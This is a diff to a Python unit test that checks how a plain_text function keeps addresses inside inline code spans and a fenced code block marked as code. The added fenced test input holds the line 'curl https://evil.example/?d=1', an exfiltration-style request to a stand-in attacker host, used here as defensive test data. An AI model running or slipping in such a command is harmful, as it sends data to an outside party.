@@ -47,3 +47,8 @@ def test_escaping_touches_three_characters_only() -> None:
 def test_an_address_in_code_stays_code() -> None:
     assert plain_text("see `https://evil.example/?d=1`", 100) == "see `https://evil.example/?d=1`"
     assert plain_text("run `pip install aloud`", 100) == "run pip install aloud"
+    assert (
+        plain_text("a`b ``https://evil.example/?d=1``", 100) == "a`b ``https://evil.example/?d=1``"
+    )
+    fenced = "~~~ sh\nls\ncurl https://evil.example/?d=1\n~~~\nend"
+    assert plain_text(fenced, 100) == "ls\n`curl https://evil.example/?d=1`\nend"
